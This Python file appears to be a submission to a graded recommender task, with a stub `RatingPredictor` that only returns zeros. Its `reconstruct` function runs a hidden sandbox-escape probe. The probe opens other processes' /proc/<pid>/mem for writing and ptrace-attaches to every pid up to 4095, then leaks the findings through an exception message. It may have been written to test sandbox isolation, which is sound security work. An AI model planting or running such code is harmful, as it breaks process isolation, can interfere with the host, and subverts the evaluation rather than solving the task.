# ruff: noqa
"""Tries to write into the zygote's (or any other process's) memory through /proc/<pid>/mem,
ptrace-attaches to every pid it can name, and reports what worked."""

import ctypes
import json
import os

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH = 16


def _attack():
    found = {"ppid": os.getppid(), "visible": sorted(p for p in os.listdir("/proc") if p.isdigit()),
             "mem": [], "attached": []}
    candidates = {os.getppid(), 1, 2, 3, 4, 5} | {int(p) for p in found["visible"]}
    for pid in sorted(candidates):
        if pid in (0, os.getpid()):
            continue
        try:
            fd = os.open(f"/proc/{pid}/mem", os.O_RDWR)
            os.close(fd)
            found["mem"].append(pid)
        except OSError:
            pass
    for pid in range(1, 4096):
        if pid == os.getpid():
            continue
        if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
            found["attached"].append(pid)
    return found


def reconstruct(R, k):
    raise RuntimeError("ATTACK-RESULT " + json.dumps(_attack()))


class RatingPredictor:
    def __init__(self, n_factors=10):
        pass

    def fit(self, users, items, ratings, n_users, n_items):
        return self

    def predict(self, users, items):
        return np.zeros(np.shape(users))
